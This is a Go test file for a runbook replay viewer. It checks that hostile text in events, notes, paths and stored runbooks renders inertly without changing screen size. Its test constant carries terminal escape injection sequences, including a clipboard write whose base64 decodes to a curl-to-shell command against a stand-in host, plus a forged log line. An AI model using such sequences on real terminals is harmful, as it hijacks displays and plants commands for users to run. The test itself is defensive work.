package replay

import (
	"strings"
	"testing"

	"runway/runbook/audit"
	"runway/runbook/event"
	"runway/ui/inert"
)

// evil is what a command, a value or a runbook could carry to drive the
// terminal or forge a line.
const evil = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a\x1b]0;pwned\a\x1b[2J\x1bc\x1bP+q\x1b\\" +
	"\u009b2J\u202eevil\u202c\nphase p / item name passed\x1bE"

// TestReplayShowsOutsideTextInert replays a session full of hostile text
// (results, notes, a tampered chain's reason, the stored runbook text) and
// checks every screen on the way: nothing may drive the terminal and every
// screen keeps its size.
func TestReplayShowsOutsideTextInert(t *testing.T) {
	g := &gen{at: t0}
	g.emit(event.KindSessionOpened, "", "", map[string]string{"operator": "alice" + evil, "host": "db1" + evil}, 0)
	g.emit(event.KindPhaseStarted, "prep", "", nil, 0)
	g.emit(event.KindItemStarted, "prep", "target-up", event.StartedPayload{Kind: "command", Attempt: 1}, 0)
	g.emit(event.KindItemFailed, "prep", "target-up", event.ResultPayload{Attempt: 1, Summary: "exit 1" + evil, Output: "out" + evil, Critical: true}, 0)
	g.emit(event.KindStopTriggered, "prep", "target-up", event.StopPayload{Reason: "failed" + evil, Choices: []string{"retry"}}, 0)
	g.emit(event.KindNote, "", "", event.NotePayload{Text: "note" + evil}, 0)
	g.emit(event.KindItemStarted, "prep"+evil, "x"+evil, nil, 0)
	info := audit.SessionInfo{ID: "s1" + evil, Runbook: "orders-split", RunbookPath: "orders" + evil + ".yaml",
		RunbookText: []byte(replayRunbook + "# " + evil + "\n\tend\n"), RunbookSHA: "0123456789abcdef", Started: t0}
	tl := NewTimeline(parseRunbook(t), info, g.events)
	for _, chain := range []audit.Report{{OK: true, Events: 7, Sessions: 1}, {OK: false, Reason: "row 3" + evil}} {
		m := New(tl, Options{Renderer: asciiRenderer(), AuditPath: "/srv/" + evil, Chain: chain})
		m = step(m, sizeMsg(100, 30))
		screens := [][]string{nil, {"right", "right", "right", "right"}, {"right"}, {"right"}, {"right"}, {"v"}, {"G", "G"}, {"esc", "?"}}
		for _, keys := range screens {
			m = press(m, keys...)
			view := m.View()
			if msg := inert.Problem(view, true); msg != "" {
				t.Fatalf("after %v: %s in\n%s", keys, msg, view)
			}
			if lines := strings.Split(view, "\n"); len(lines) != 30 {
				t.Fatalf("after %v: %d lines, want 30:\n%s", keys, len(lines), view)
			}
		}
	}
}
